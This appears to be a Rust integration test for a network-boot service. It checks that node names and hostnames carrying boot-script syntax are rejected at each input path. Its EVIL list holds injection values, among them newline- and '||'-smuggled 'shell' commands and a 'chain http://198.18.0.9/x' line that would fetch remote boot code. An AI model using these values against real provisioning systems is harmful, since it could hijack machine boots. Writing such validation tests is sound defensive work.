//! Names cannot inject anything: every input that carries a node name or an MDB hostname (the
//! node API, an introspection rule's `set-attribute /name`, `Mdb.SetMachine`, the MDB file)
//! refuses newlines, `${…}`, `#`, `||` and the like with a clear 400 and changes nothing, and
//! no boot script ever gains a line from a name.

mod support;

use serde_json::json;
use support::*;

const EVIL: &[&str] = &[
    "r1\nshell\n#",
    "r1${net0/mac}",
    "r1#comment",
    "r1 || shell",
    "r1&&shell",
    "r1\r\nchain http://198.18.0.9/x",
    "-",
];

#[test]
fn no_name_carrying_input_accepts_script_syntax() {
    let lab = MdbLab::start();
    let call =
        |method: &str, path: &str, body: Option<String>| lab.call(method, path, body.as_deref());
    let nodes = || call("GET", "/api/v1/nodes", None).json();
    let hostnames = || lab.hostnames();

    // 1. The node API. ("-" is a valid name: it shows the good ones still pass.)
    for (i, name) in EVIL.iter().enumerate() {
        let mac = format!("52:54:00:00:00:{:02x}", 0x10 + i);
        let r = call(
            "POST",
            "/api/v1/nodes",
            Some(json!({"macs": [mac], "name": name}).to_string()),
        );
        if *name == "-" {
            assert_eq!(r.status, 201, "{r:?}");
            continue;
        }
        assert_eq!(r.status, 400, "{name:?}: {r:?}");
        assert!(
            r.error().contains("RFC 3986 unreserved"),
            "{name:?}: {}",
            r.body
        );
        let script = call("GET", &format!("/boot/{mac}.ipxe"), None).body;
        assert!(
            script.contains("is unknown"),
            "{name:?}: refused node exists: {script}"
        );
    }
    let r = call(
        "POST",
        "/api/v1/nodes",
        Some(
            json!({"macs": ["52:54:00:00:00:30"], "name": "c244557e-899f-46fa-a1ff-5b2c6718616b"})
                .to_string(),
        ),
    );
    assert_eq!(r.status, 400, "a UUID-like name is refused (Ironic): {r:?}");
    assert_eq!(nodes().as_array().unwrap().len(), 1, "only the good name");

    // 2. A rule's set-attribute on /name: the action fails, the node keeps its name.
    for (i, name) in EVIL.iter().filter(|n| **n != "-").enumerate() {
        let uuid = format!("7f3a8c52-1e2b-4c7d-9a6e-0000000000{i:02}");
        let rule = json!({"uuid": uuid, "description": "rename", "conditions": [],
            // Braces doubled: action values are formatted as Python's str.format does.
            "actions": [{"action": "set-attribute", "path": "/name",
                         "value": name.replace('{', "{{").replace('}', "}}")}]});
        let r = call("POST", "/v1/rules", Some(rule.to_string()));
        assert_eq!(r.status, 201, "{r:?}");
        let mac = format!("52:54:00:00:01:{i:02x}");
        let r = call(
            "POST",
            "/api/v1/nodes",
            Some(json!({"macs": [mac], "name": format!("victim{i}")}).to_string()),
        );
        assert_eq!(r.status, 201, "{r:?}");
        let node = r.json()["uuid"].as_str().unwrap().to_string();
        assert_eq!(
            call("POST", &format!("/v1/introspection/{node}"), None).status,
            202
        );
        let r = call(
            "POST",
            "/v1/continue",
            Some(inventory(&[&mac], 1, 512, &[]).to_string()),
        );
        assert_eq!(r.status, 400, "{name:?}: {r:?}");
        // Ironic refuses the PATCH the action makes; Inspector reports it, as here.
        assert!(
            r.error().contains("Cannot change name to invalid name"),
            "{name:?}: {}",
            r.body
        );
        let n = call("GET", &format!("/api/v1/nodes/{node}"), None).json();
        assert_eq!(n["name"], format!("victim{i}"), "{name:?}");
        assert_eq!(n["introspection"]["state"], "error", "{n}");
        let script = call("GET", &format!("/boot/{mac}.ipxe"), None).body;
        assert!(!script.lines().any(|l| l.trim() == "shell"), "{script}");
        assert_eq!(
            call("DELETE", &format!("/v1/rules/{uuid}"), None).status,
            204
        );
    }

    // 3. Mdb.SetMachine: refused, nothing recorded.
    let before = hostnames();
    for name in EVIL.iter().filter(|n| **n != "-") {
        let r = call(
            "POST",
            "/rpc/Mdb.SetMachine",
            Some(json!({"Hostname": name, "RequiredImage": "x"}).to_string()),
        );
        assert_eq!(r.status, 400, "{name:?}: {r:?}");
        assert!(
            r.error().contains("RFC 3986 unreserved"),
            "{name:?}: {}",
            r.body
        );
    }
    assert_eq!(hostnames(), before);

    // 4. The MDB file: a bad hostname is reported and changes nothing.
    let write = |text: &str| replace_file(&lab.mdb, text);
    write(r#"[{"Hostname": "good0"}]"#);
    wait_for("the MDB file", || {
        hostnames().contains(&"good0".to_string())
    });
    for name in EVIL.iter().filter(|n| **n != "-") {
        write(&json!([{"Hostname": "good1"}, {"Hostname": name}]).to_string());
        wait_for("the bad file to be reported", || {
            let m = call("GET", "/rpc/Mdb.ListMachines", None).json();
            m["file"]["last_error"]
                .as_str()
                .is_some_and(|e| e.contains("RFC 3986 unreserved"))
        });
        let h = hostnames();
        assert!(
            h.contains(&"good0".to_string()) && !h.contains(&"good1".to_string()),
            "{h:?}"
        );
        write(r#"[{"Hostname": "good0"}]"#);
        wait_for("the good file again", || {
            call("GET", "/rpc/Mdb.ListMachines", None).json()["file"]["last_error"].is_null()
        });
    }
}
